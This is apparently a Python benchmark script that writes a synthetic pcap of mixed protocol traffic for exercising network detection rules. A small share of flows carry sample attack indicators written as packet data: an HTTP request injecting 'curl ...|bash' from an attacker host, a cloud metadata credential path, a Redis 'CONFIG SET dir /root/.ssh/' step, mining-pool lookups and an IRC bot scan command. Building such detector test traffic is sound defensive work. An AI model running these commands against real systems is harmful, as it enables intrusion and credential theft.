"""A synthetic but protocol-faithful capture of any size, for the network benchmarks.

`write_capture(path, size)` writes a little-endian microsecond pcap (Ethernet) of TCP and UDP
conversations interleaved 64 at a time, each with a real handshake, in-order segments of at most
1448 bytes, ACKs and a FIN exchange: HTTP/1.1 requests with responses of 1 KiB to 256 KiB, Redis
sessions (RESP, some `CONFIG SET dir`), stratum logins, TLS (ClientHello with SNI, then opaque
records), SSH banners then opaque data, IRC bots, an unknown binary protocol, and DNS over UDP. A
small share of the traffic carries what the built-in rules look for, so a benchmark exercises both
the fast path and real matches. Deterministic for a given seed. Checksums are left zero (no
reader here verifies them).

    .venv/bin/python benchmarks/network/traffic.py OUT.pcap --size-mb 1024
"""

from __future__ import annotations

import argparse
import random
import struct
import sys
from collections.abc import Iterator
from pathlib import Path

MSS = 1448
_PCAP_HEADER = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1)
_REC = struct.Struct("<IIII")
_ETH = b"\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02\x08\x00"
_IP = struct.Struct("!BBHHHBBH4s4s")
_TCP = struct.Struct("!HHIIBBHHH")
_UDP = struct.Struct("!HHHH")
SYN, ACK, PSH, FIN = 0x02, 0x10, 0x08, 0x01

_UAS = [b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", b"curl/8.5.0", b"python-requests/2.32",
        b"Wget/1.21.3", b"Go-http-client/1.1"]
_PATHS = [b"/", b"/index.html", b"/api/v1/items?page=2", b"/static/app.js", b"/login", b"/images/logo.png"]


def _ip(src: bytes, dst: bytes, proto: int, payload_len: int, ident: int) -> bytes:
    return _IP.pack(0x45, 0, 20 + payload_len, ident & 0xFFFF, 0x4000, 64, proto, 0, src, dst)


class _Tcp:
    """One TCP conversation as a generator of frames."""

    def __init__(self, rng: random.Random, client: bytes, server: bytes, cport: int, sport: int) -> None:
        self.rng = rng
        self.c, self.s, self.cp, self.sp = client, server, cport, sport
        self.cseq = rng.getrandbits(32)
        self.sseq = rng.getrandbits(32)
        self.ident = rng.getrandbits(16)

    def _frame(self, from_client: bool, flags: int, data: bytes = b"") -> bytes:
        self.ident += 1
        if from_client:
            src, dst, sp, dp, seq, ack = self.c, self.s, self.cp, self.sp, self.cseq, self.sseq
        else:
            src, dst, sp, dp, seq, ack = self.s, self.c, self.sp, self.cp, self.sseq, self.cseq
        tcp = _TCP.pack(sp, dp, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, 65535, 0, 0)
        return _ETH + _ip(src, dst, 6, 20 + len(data), self.ident) + tcp + data

    def handshake(self) -> Iterator[bytes]:
        yield self._frame(True, SYN)
        self.cseq += 1
        yield self._frame(False, SYN | ACK)
        self.sseq += 1
        yield self._frame(True, ACK)

    def send(self, from_client: bool, data: bytes) -> Iterator[bytes]:
        for i in range(0, len(data), MSS):
            piece = data[i:i + MSS]
            yield self._frame(from_client, ACK | PSH, piece)
            if from_client:
                self.cseq += len(piece)
            else:
                self.sseq += len(piece)
            if (i // MSS) % 2 == 1:  # delayed ACK every second segment
                yield self._frame(not from_client, ACK)

    def close(self) -> Iterator[bytes]:
        yield self._frame(True, FIN | ACK)
        self.cseq += 1
        yield self._frame(False, FIN | ACK)
        self.sseq += 1
        yield self._frame(True, ACK)


def _http(rng: random.Random, conv: _Tcp, evil: bool) -> Iterator[bytes]:
    for _ in range(rng.randint(1, 4)):
        path = rng.choice(_PATHS)
        if evil:
            path = rng.choice([b"/cgi-bin/x.sh?cmd=curl%20http://teamtnt.red/x|bash", b"/latest/meta-data/iam/"])
        request = (b"GET " + path + b" HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: " + rng.choice(_UAS)
                   + b"\r\nAccept: */*\r\n\r\n")
        yield from conv.send(True, request)
        body = rng.randbytes(rng.choice([1024, 4096, 16384, 65536, 262144]))
        head = (b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\n"
                b"Content-Length: %d\r\n\r\n")
        yield from conv.send(False, head % len(body) + body)


def _resp(*args: bytes) -> bytes:
    return b"*%d\r\n" % len(args) + b"".join(b"$%d\r\n%s\r\n" % (len(a), a) for a in args)


def _redis(rng: random.Random, conv: _Tcp, evil: bool) -> Iterator[bytes]:
    for i in range(rng.randint(5, 40)):
        key = b"key:%d" % rng.randint(0, 10**6)
        command = _resp(b"SET", key, rng.randbytes(rng.randint(10, 400))) if i % 2 else _resp(b"GET", key)
        yield from conv.send(True, command)
        yield from conv.send(False, b"+OK\r\n" if i % 2 else b"$-1\r\n")
    if evil:
        yield from conv.send(True, _resp(b"CONFIG", b"SET", b"dir", b"/root/.ssh/"))
        yield from conv.send(False, b"+OK\r\n")


def _stratum(rng: random.Random, conv: _Tcp, evil: bool) -> Iterator[bytes]:
    login = (b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4' + rng.randbytes(20).hex().encode()
             + b'","pass":"x","agent":"XMRig/6.21.0"}}\n')
    yield from conv.send(True, login)
    for i in range(rng.randint(3, 20)):
        job = b'{"jsonrpc":"2.0","method":"job","params":{"blob":"' + rng.randbytes(76).hex().encode() + b'"}}\n'
        yield from conv.send(False, job)
        nonce = rng.randbytes(4).hex().encode()
        yield from conv.send(True, b'{"id":%d,"method":"submit","params":{"nonce":"%s"}}\n' % (i + 2, nonce))


def _tls(rng: random.Random, conv: _Tcp, evil: bool) -> Iterator[bytes]:
    name = b"pool.minexmr.com" if evil else rng.choice([b"www.example.com", b"api.github.com", b"cdn.example.net"])
    sni = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name  # server_name_list: host_name (0), length, name
    exts = struct.pack("!HH", 0, len(sni)) + sni + b"\x00\x0a\x00\x04\x00\x02\x00\x1d" + b"\x00\x0b\x00\x02\x01\x00"
    body = (b"\x03\x03" + rng.randbytes(32) + b"\x00" + b"\x00\x04\x13\x01\x13\x02" + b"\x01\x00"
            + struct.pack("!H", len(exts)) + exts)
    hello = b"\x01" + struct.pack("!I", len(body))[1:] + body
    yield from conv.send(True, b"\x16\x03\x01" + struct.pack("!H", len(hello)) + hello)
    yield from conv.send(False, b"\x16\x03\x03\x00\x30" + rng.randbytes(48) + b"\x14\x03\x03\x00\x01\x01")
    for _ in range(rng.randint(1, 8)):
        record = rng.randbytes(rng.randint(200, 16000))
        yield from conv.send(rng.random() < 0.3, b"\x17\x03\x03" + struct.pack("!H", len(record)) + record)


def _ssh(rng: random.Random, conv: _Tcp, evil: bool) -> Iterator[bytes]:
    yield from conv.send(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
    yield from conv.send(True, b"SSH-2.0-libssh2_1.10.0\r\n" if evil else b"SSH-2.0-OpenSSH_9.6\r\n")
    for _ in range(rng.randint(4, 30)):
        yield from conv.send(rng.random() < 0.5, rng.randbytes(rng.randint(40, 3000)))


def _irc(rng: random.Random, conv: _Tcp, evil: bool) -> Iterator[bytes]:
    yield from conv.send(True, b"NICK x%d\r\nUSER x 0 * :x\r\n" % rng.randint(0, 9999))
    yield from conv.send(False, b":irc.example.net 001 x :Welcome to the network\r\n")
    yield from conv.send(True, b"JOIN #chan\r\n")
    for _ in range(rng.randint(2, 20)):
        text = b"!scan 10.0.0.0/8" if evil else b"hello there " + rng.randbytes(8).hex().encode()
        yield from conv.send(rng.random() < 0.5, b":op!o@h PRIVMSG #chan :" + text + b"\r\n")


def _binary(rng: random.Random, conv: _Tcp, evil: bool) -> Iterator[bytes]:
    for _ in range(rng.randint(2, 10)):
        yield from conv.send(True, rng.randbytes(rng.randint(64, 2048)))
        yield from conv.send(False, rng.randbytes(rng.randint(1024, 131072)))


_KINDS = [(_http, 80, 40), (_redis, 6379, 10), (_stratum, 3333, 5), (_tls, 443, 20), (_ssh, 22, 8),
          (_irc, 6667, 4), (_binary, 9000, 13)]


def _dns(rng: random.Random, client: bytes, server: bytes, port: int, evil: bool) -> Iterator[bytes]:
    name = b"teamtnt.red" if evil else rng.choice([b"www.example.com", b"api.github.com", b"deb.debian.org"])
    qname = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\x00"
    ident = rng.getrandbits(16)
    query = struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + qname + b"\x00\x01\x00\x01"
    answer = (struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + qname + b"\x00\x01\x00\x01"
              + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x01\x2c\x00\x04" + bytes([93, 184, 216, 34]))
    for src, dst, sp, dp, data in ((client, server, port, 53, query), (server, client, 53, port, answer)):
        yield _ETH + _ip(src, dst, 17, 8 + len(data), 0) + _UDP.pack(sp, dp, 8 + len(data), 0) + data


def frames(seed: int = 1) -> Iterator[bytes]:
    """An endless, deterministic stream of frames from 64 interleaved conversations."""
    rng = random.Random(seed)
    weights = [w for _, _, w in _KINDS]
    port = 20000

    def conversation() -> Iterator[bytes]:
        nonlocal port
        port = 20000 + (port - 19999) % 40000
        client = bytes([10, 1, rng.randint(0, 255), rng.randint(1, 254)])
        evil = rng.random() < 0.02
        if rng.random() < 0.08:
            return _dns(rng, client, bytes([10, 0, 0, 53]), port, evil)
        kind, sport, _ = rng.choices(_KINDS, weights)[0]
        server = bytes([10, 2, rng.randint(0, 255), rng.randint(1, 254)])
        conv = _Tcp(rng, client, server, port, sport)

        def run() -> Iterator[bytes]:
            yield from conv.handshake()
            yield from kind(rng, conv, evil)
            yield from conv.close()
        return run()

    live = [conversation() for _ in range(64)]
    while True:
        i = rng.randrange(len(live))
        for _ in range(rng.randint(1, 6)):
            frame = next(live[i], None)
            if frame is None:
                live[i] = conversation()
                break
            yield frame


def write_capture(path: str | Path, size: int, seed: int = 1) -> tuple[int, int]:
    """Write about `size` bytes of capture; returns (packets, file bytes)."""
    packets = 0
    written = len(_PCAP_HEADER)
    ts = 1_700_000_000_000_000
    with open(path, "wb", buffering=4 * 1024 * 1024) as out:
        out.write(_PCAP_HEADER)
        for frame in frames(seed):
            ts += 37
            out.write(_REC.pack(ts // 1_000_000, ts % 1_000_000, len(frame), len(frame)))
            out.write(frame)
            packets += 1
            written += 16 + len(frame)
            if written >= size:
                break
    return packets, written


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out")
    parser.add_argument("--size-mb", type=float, default=256)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    packets, size = write_capture(args.out, int(args.size_mb * 1024 * 1024), args.seed)
    print(f"{args.out}: {packets} packets, {size / 2**20:.1f} MiB")
    return 0


if __name__ == "__main__":
    sys.exit(main())
